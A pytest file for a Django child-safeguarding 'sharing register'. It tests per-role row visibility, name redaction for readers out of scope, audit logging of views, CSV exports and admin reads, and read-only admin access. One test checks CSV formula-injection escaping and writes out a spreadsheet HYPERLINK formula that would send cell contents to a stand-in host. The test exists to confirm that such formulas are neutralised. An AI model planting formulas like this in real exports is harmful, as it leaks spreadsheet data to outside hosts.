"""The sharing register: who reads which rows, who is named in them, and the audit of each
read and download."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from locus.access.models import Scope
from locus.audit.models import AccessAction, AccessEvent
from locus.sharing.models import Share, ShareKind
from locus.sharing.services import To, record_share
from locus.sharing.vocab import SAFEGUARDING
from tests.casework import helpers as casework
from tests.factories import World, client_for, make_worker
from tests.mapping import helpers as mapping

pytestmark = pytest.mark.django_db
REGISTER = "/sharing/"


def _shares(world: World) -> dict[str, Share]:
    """Four shares by workers in three teams and a partner."""
    casework.refer(world, actor=world.social_worker, about="child", children=[world.csc_child])
    casework.refer(world, actor=world.teammate, about="child", children=[world.team_child])
    meeting = mapping.propose(world, agreed=False, invitees=[world.police_analyst])
    mapping.agree(meeting, world.yjs_worker, world.yjs_child)
    casework.refer(world)  # the partner's own referral about the shopping centre
    by = {s.by.username: s for s in Share.objects.all()}
    return {
        "own": by["social_worker"],
        "teammate": by["teammate"],
        "yjs": by["yjs_worker"],
        "partner": by["partner_worker"],
    }


def _read(client: Client, query: dict[str, Any] | None = None) -> tuple[str, set[str]]:
    """The register page as ``client`` reads it, and the row ids its read was audited with."""
    response = client.get(REGISTER, query or {})
    assert response.status_code == 200
    event = AccessEvent.objects.filter(record_type="sharing.share").latest("id")
    assert event.action == AccessAction.VIEW
    return response.content.decode(), set(event.detail["shown"])


@pytest.mark.parametrize(
    ("persona", "sees"),
    [
        ("auditor", {"own", "teammate", "yjs", "partner"}),
        ("admin", {"own", "teammate", "yjs", "partner"}),
        ("team_manager", {"own", "teammate"}),  # their team's
        ("social_worker", {"own", "yjs"}),  # their own, and one made to them
        ("police_analyst", {"yjs"}),  # only the meeting they were invited to
        ("partner_worker", {"partner"}),  # a partner sees only their own
        ("other_social_worker", set()),
    ],
)
def test_each_persona_reads_the_rows_the_rules_give_them(
    world: World, persona: str, sees: set[str]
) -> None:
    shares = _shares(world)
    _, shown = _read(client_for(world.persona(persona)))
    assert shown == {str(shares[k].pk) for k in sees}


def test_a_reader_outside_the_childs_scope_gets_a_count_not_a_name(world: World) -> None:
    _shares(world)
    police, _ = _read(client_for(world.police_analyst))
    assert world.yjs_child.full_name not in police
    assert "1 person not shared with you" in police
    holder, _ = _read(client_for(world.yjs_worker))
    assert world.yjs_child.full_name in holder
    auditor, _ = _read(client_for(world.auditor))  # the IG lead: scope none, no names
    assert world.csc_child.full_name not in auditor and world.yjs_child.full_name not in auditor


@pytest.mark.parametrize("action", [AccessAction.VIEW, AccessAction.EXPORT])
def test_the_register_logs_as_shown_only_the_people_it_named(world: World, action: str) -> None:
    """A reader shown "1 person not shared with you" was shown nobody: the child's record of who
    read about them (their subject access package) and an auditor's search of the trail by
    child must not list the read; it is logged as a count. The holder's read names the child
    and is logged with them. (Review 28c: every person on a row was logged as shown.)"""
    meeting = mapping.propose(world, agreed=False, invitees=[world.police_analyst])
    mapping.agree(meeting, world.yjs_worker, world.yjs_child)
    url = REGISTER if action == AccessAction.VIEW else REGISTER + "register.csv"
    for reader, named in ((world.police_analyst, False), (world.yjs_worker, True)):
        body = client_for(reader).get(url).content.decode()
        assert (world.yjs_child.full_name in body) == named
        event = AccessEvent.objects.filter(record_type="sharing.share", action=action).latest("id")
        assert event.actor == reader
        assert (world.yjs_child.pk in event.detail["people_shown"]) == named, event.detail
        assert event.detail["people_unnamed"] == (0 if named else 1)


def test_the_register_filters_by_kind_agency_and_date(world: World) -> None:
    shares = _shares(world)
    auditor = client_for(world.auditor)
    _, referrals = _read(auditor, {"kind": ShareKind.REFERRAL})
    assert referrals == {str(shares[k].pk) for k in ("own", "teammate", "partner")}
    _, partner = _read(auditor, {"agency": str(world.partner.pk)})
    assert partner == {str(shares["partner"].pk)}
    _, before = _read(auditor, {"date_to": "01/01/2020"})
    assert before == set()


def test_the_csv_download_holds_the_rows_and_is_audited(world: World) -> None:
    shares = _shares(world)
    response = client_for(world.team_manager).get(REGISTER + "register.csv")
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["Register ID", "When", "Kind"]
    assert {r[0] for r in rows[1:]} == {str(shares["own"].pk), str(shares["teammate"].pk)}
    event = AccessEvent.objects.get(record_type="sharing.share", action=AccessAction.EXPORT)
    assert set(event.detail["shown"]) == {r[0] for r in rows[1:]}
    assert event.actor == world.team_manager


def test_the_register_links_the_isa_and_the_dpia(world: World) -> None:
    html, _ = _read(client_for(world.auditor))
    assert 'href="/policies/isa/"' in html and 'href="/policies/dpia/"' in html


def test_the_register_s_seven_columns_take_the_window_s_width(world: World) -> None:
    """Seven columns squeezed into the page's 960px column wrap every cell to a few words:
    the register's table region takes a wide window's width (tests/e2e measures it)."""
    _shares(world)
    html, _ = _read(client_for(world.auditor))
    assert '<div class="locus-table-scroll locus-wide" role="region" aria-label="Results"' in html


def _queries(client: Client) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        assert client.get(REGISTER).status_code == 200
    return len(queries)


def test_the_register_reads_the_same_number_of_queries_however_many_rows(world: World) -> None:
    client = client_for(world.auditor)
    casework.refer(world)
    few = _queries(client)
    for _ in range(5):
        casework.refer(world, actor=world.social_worker, about="child", children=[world.csc_child])
    assert _queries(client) == few


def test_a_partner_sees_a_share_made_to_them_and_a_colleague_who_got_nothing_sees_none(
    world: World,
) -> None:
    """A meeting shares a child with the partner's worker it invited: they read its row (the
    child outside their scope: a count, no name); a worker of the same partner who was not
    invited reads nothing, on the page or in the download."""
    colleague = make_worker(
        world.system, team=world.partner_team, scope=Scope.AGENCY, username="partner_colleague"
    )
    meeting = mapping.propose(world, agreed=False, invitees=[world.partner_worker])
    mapping.agree(meeting, world.yjs_worker, world.yjs_child)
    share = Share.objects.get(kind=ShareKind.MEETING)
    assert share.by == world.yjs_worker and share.people == [world.yjs_child.pk]
    html, shown = _read(client_for(world.partner_worker))
    assert shown == {str(share.pk)}
    assert world.yjs_child.full_name not in html and "1 person not shared with you" in html
    _, nothing = _read(client_for(colleague))
    assert nothing == set()
    rows = list(csv.reader(io.StringIO(_csv(client_for(colleague)))))
    assert rows[1:] == []


def _csv(client: Client) -> str:
    response = client.get(REGISTER + "register.csv")
    assert response.status_code == 200
    return response.content.decode()


def test_a_purpose_a_spreadsheet_would_run_is_written_as_text(world: World) -> None:
    """A purpose typed as a formula opens in Excel or LibreOffice as text, not a formula."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
    record_share(
        actor=world.social_worker,
        kind=ShareKind.REFERRAL,
        basis=SAFEGUARDING,
        purpose=formula,
        what=["@SUM(1+1)"],
        record_ref="-1+1",
        source=world.csc_child,
        recipients=[To(name="+Someone, somewhere")],
        people=[world.csc_child.pk],
    )
    header, row = list(csv.reader(io.StringIO(_csv(client_for(world.auditor)))))
    cell = dict(zip(header, row, strict=True))
    assert cell["Purpose"] == "'" + formula
    assert cell["What"] == "'@SUM(1+1)" and cell["Record"] == "'-1+1"
    assert cell["With whom"] == "'+Someone, somewhere"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in row)


def test_the_register_in_the_admin_is_read_only_and_its_reads_are_audited(world: World) -> None:
    """The admin bypasses the register page: it still logs what it showed, and cannot write."""
    shares = _shares(world)
    admin = client_for(world.admin)
    assert admin.get("/admin/sharing/share/").status_code == 200
    listed = AccessEvent.objects.filter(record_type="sharing.share").latest("id")
    assert (listed.actor, listed.action) == (world.admin, AccessAction.SEARCH)
    assert set(listed.detail["shown"]) == {str(s.pk) for s in shares.values()}
    one = shares["own"]
    assert admin.get(f"/admin/sharing/share/{one.pk}/change/").status_code == 200
    shown = AccessEvent.objects.filter(record_type="sharing.share").latest("id")
    assert (shown.action, shown.record_id) == (AccessAction.VIEW, str(one.pk))
    assert admin.get("/admin/sharing/share/add/").status_code == 404
    assert admin.post(f"/admin/sharing/share/{one.pk}/delete/", {"post": "yes"}).status_code == 404
    assert Share.objects.filter(pk=one.pk).exists()
